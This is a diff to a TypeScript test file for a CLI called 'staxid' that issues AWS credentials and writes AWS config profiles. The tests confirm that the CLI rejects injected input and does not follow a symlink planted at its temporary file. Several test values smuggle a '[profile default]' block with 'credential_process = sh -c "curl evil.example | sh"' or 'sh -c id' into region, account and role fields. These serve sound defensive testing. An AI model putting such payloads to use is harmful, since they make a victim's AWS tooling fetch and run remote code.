@@ -3,7 +3,17 @@
  * API and a real cognito-local for people's sign-in.
  */
 
-import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
+import {
+  lstatSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
@@ -425,6 +435,18 @@ describe('staxid credentials', () => {
     expect(result.stderr.endsWith(message)).toBe(true);
   });
 
+  it('does not serve the previous sign-in’s cached credentials after logging in as someone else', async () => {
+    const args = ['credentials', '--account', '111111111111', '--role', 'staxid-admin-role'];
+    await loginAsUser();
+    const first = await runCli(args, { env });
+    await loginAsUser();
+
+    const second = await runCli(args, { env });
+    expect(second.code).toBe(0);
+    expect(calls('POST /20190206/aws/sign-in')).toBe(2);
+    expect(JSON.parse(second.stdout).AccessKeyId).not.toBe(JSON.parse(first.stdout).AccessKeyId);
+  });
+
   it('tells how to sign in when the profile has no session', async () => {
     const result = await runCli(
       ['credentials', '--account', '111111111111', '--role', 'r', '--profile', 'work'],
@@ -479,6 +501,41 @@ describe('staxid configure', () => {
     expect(readFileSync(file, 'utf8')).toContain('[profile corp-production-staxid-readonly-role]');
   });
 
+  it('refuses a --region that is not an AWS region name, writing nothing', async () => {
+    await loginAsUser();
+    const file = join(root, `aws-config-region-${Date.now()}`);
+    const result = await runCli(
+      [
+        'configure',
+        '--aws-config',
+        file,
+        '--region',
+        'eu-west-2\n[profile default]\ncredential_process = sh -c id',
+      ],
+      { env },
+    );
+    expect(result.code).toBe(2);
+    expect(result.stderr).toContain('is not an AWS region name such as eu-west-2');
+    expect(() => statSync(file)).toThrow();
+  });
+
+  it('writes the config without following a link planted where its temporary file used to go', async () => {
+    await loginAsUser();
+    const shared = mkdtempSync(join(root, 'shared-'));
+    const file = join(shared, 'config');
+    const victim = join(shared, 'victim');
+    writeFileSync(victim, 'untouched\n');
+    symlinkSync(victim, `${file}.${process.pid}.tmp`);
+
+    const result = await runCli(['configure', '--aws-config', file], { env });
+    expect(result.code).toBe(0);
+    expect(readFileSync(victim, 'utf8')).toBe('untouched\n');
+    expect(lstatSync(file).isFile()).toBe(true);
+    expect(readdirSync(shared).filter((name) => name.endsWith('.tmp'))).toEqual([
+      `config.${process.pid}.tmp`,
+    ]);
+  });
+
   it('refuses an API token session, since AWS sign-in is for people', async () => {
     await loginWithApiToken();
     const file = join(root, `aws-config-token-${Date.now()}`);
@@ -499,6 +556,90 @@ describe('staxid configure', () => {
       'already has a profile staxid-production-staxid-admin-role outside the staxid block',
     );
     expect(readFileSync(file, 'utf8')).toBe(clashing);
+  });
+});
+
+describe('a hostile or compromised staxid API', () => {
+  const injection = 'eu-west-2\n[profile default]\ncredential_process = sh -c "curl evil.example | sh"';
+  let hostile: FakeApi;
+  afterEach(() => hostile?.stop());
+
+  async function startHostileApi(region: string, roles = TEST_ROLES): Promise<FakeApi> {
+    hostile = await startFakeApi({
+      cognitoEndpoint: cognito.endpoint,
+      userPoolId: cognito.userPoolId,
+      userPoolClientId: cognito.userPoolClientId,
+      apiToken: API_TOKEN,
+      roles,
+      region,
+    });
+    return hostile;
+  }
+
+  it.each([
+    ['a line break', injection],
+    ['a host of its own', 'evil.example/x?'],
+  ])('cannot name a region with %s: login refuses before asking for the password', async (_what, region) => {
+    const { url } = await startHostileApi(region);
+    const result = await runCli(['login', '--api', url, '--username', 'someone', '--password-stdin'], {
+      env,
+      stdin: `${PASSWORD}\n`,
+    });
+    expect(result.code).toBe(1);
+    expect(result.stderr).toContain(
+      `${url}/20190206/public/config names the region ${JSON.stringify(region)}, which is not an AWS region`,
+    );
+    expect(() => statSync(join(dir, 'credentials.json'))).toThrow();
+  });
+
+  it('refuses the region for an API token login too', async () => {
+    const { url } = await startHostileApi(injection);
+    const result = await runCli(
+      ['login', '--api', url, '--access-key', API_TOKEN.accessKey, '--secret-key-stdin'],
+      {
+        env,
+        stdin: `${API_TOKEN.secretKey}\n`,
+      },
+    );
+    expect(result.code).toBe(1);
+    expect(result.stderr).toContain('which is not an AWS region');
+    expect(hostile.calls.get('POST /oauth2/token')).toBeUndefined();
+  });
+
+  it('cannot write lines of its own through AccountId or RoleName: configure leaves such roles out', async () => {
+    const [good] = TEST_ROLES;
+    if (!good) throw new Error('TEST_ROLES is empty');
+    const { url } = await startHostileApi('eu-west-2', [
+      good,
+      { ...good, AccountId: '333333333333\n[profile default]\ncredential_process = sh -c id' },
+      { ...good, AccountId: '444444444444', RoleName: 'admin\n[profile default]' },
+      { ...good, AccountId: '55555', RoleName: 'short-account-id' },
+    ]);
+    const username = await createUser();
+    await runCli(
+      [
+        'login',
+        '--api',
+        url,
+        '--username',
+        username,
+        '--password-stdin',
+        '--cognito-endpoint',
+        cognito.endpoint,
+      ],
+      {
+        env,
+        stdin: `${PASSWORD}\n`,
+      },
+    );
+    const file = join(root, `aws-config-hostile-${Date.now()}`);
+
+    const result = await runCli(['configure', '--aws-config', file], { env });
+    expect(result.code).toBe(0);
+    const text = readFileSync(file, 'utf8');
+    expect(text.match(/^\[profile /gm)).toEqual(['[profile ']);
+    expect(text).toContain('[profile staxid-production-staxid-admin-role]');
+    expect(text).not.toMatch(/\[profile default|short-account-id|333333333333|444444444444/);
   });
 });
 
